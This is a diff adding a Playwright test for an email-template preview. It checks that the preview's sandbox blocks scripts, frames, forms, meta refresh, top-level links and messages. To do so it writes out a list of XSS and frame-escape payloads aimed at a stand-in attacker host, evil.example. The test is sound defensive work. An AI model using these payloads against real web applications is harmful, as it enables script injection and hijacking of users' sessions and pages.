@@ -152,3 +152,60 @@ test('a draft is scheduled for all users, cancelled before it is sent, and sent 
   // Told by the server: the page does not ask again and again.
   await page.getByRole('row', { name: 'Spring' }).getByText('Sent', { exact: true }).waitFor()
 })
+
+test('nothing gets out of the preview of an email: no script, form, message, refresh, frame or link to the top', async () => {
+  const { page, open } = await openOwnedProject()
+  const context = page.context()
+  const requests: string[] = []
+  await context.route('https://evil.example/**', (route) => {
+    requests.push(`${route.request().resourceType()} ${new URL(route.request().url()).pathname}`)
+    // What a tab can do to the page that has opened it.
+    const script =
+      "<script>for (const w of [opener?.top, opener]) try { w.location = 'https://evil.example/tab' } catch {}"
+    return route.fulfill({ contentType: 'text/html', body: `Evil${script}</script>` })
+  })
+  // Between the windows of the page, and not of the test.
+  await page.addInitScript(() => {
+    const received: unknown[] = []
+    Object.assign(globalThis, { received })
+    if (top === window) addEventListener('message', ({ data }) => received.push(data))
+  })
+  const report = "parent.postMessage('out','*');top.location='https://evil.example/script'"
+  const attacks = `
+    <script>${report}</script><script src="https://evil.example/src"></script>
+    <svg onload="${report}"></svg><img src="https://evil.example/image" onerror="${report}">
+    <iframe srcdoc="<script>parent.${report}</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
+    <object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
+    <base href="https://evil.example/base/" target="_top">
+    <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+    <link rel="stylesheet" href="https://evil.example/style"><style>@import 'https://evil.example/import';</style>
+    <form action="https://evil.example/form" target="_top"><input autofocus onfocus="${report}"><button>Submit</button></form>
+    <a href="https://evil.example/top" target="_top">To the top</a>
+    <a href="https://evil.example/parent" target="_parent">To the parent</a>
+    <a href="https://evil.example/self" target="_self">In place</a>
+    <a href="javascript:${report}" target="_self">By script</a>
+    <a href="https://evil.example/opened" target="_blank" rel="opener">In a tab</a>
+    </textarea></form><p>All attacks are here</p>`
+  const source = toSource('Attack').replace(
+    /<a href.*<\/a>/,
+    `<div dangerouslySetInnerHTML={{ __html: ${JSON.stringify(attacks)} }} />`,
+  )
+  await open(`/emails/templates/${resetTemplate}`)
+  await preview(page).getByText('Reset your password').first().waitFor()
+  const address = page.url()
+  await replaceSource(page, source)
+  await preview(page).getByText('All attacks are here').waitFor()
+  for (const target of ['Submit', 'To the top', 'To the parent', 'By script']) {
+    await preview(page).getByText(target, { exact: true }).click()
+  }
+  // A link opens a tab, which cannot reach the page.
+  const [tab] = await Promise.all([context.waitForEvent('page'), preview(page).getByText('In a tab').click()])
+  await tab.getByText('Evil').waitFor()
+  await preview(page).getByText('In place').click()
+  await preview(page).getByText('All attacks are here').waitFor({ state: 'detached' })
+  expect(page.url()).toBe(address)
+  expect(await page.evaluate(() => (globalThis as unknown as { received: unknown[] }).received)).toEqual([])
+  // Emails show images of any host, and nothing else.
+  expect(requests.toSorted()).toEqual(['document /opened', 'image /image'])
+  expect(context.pages()).toHaveLength(2)
+})
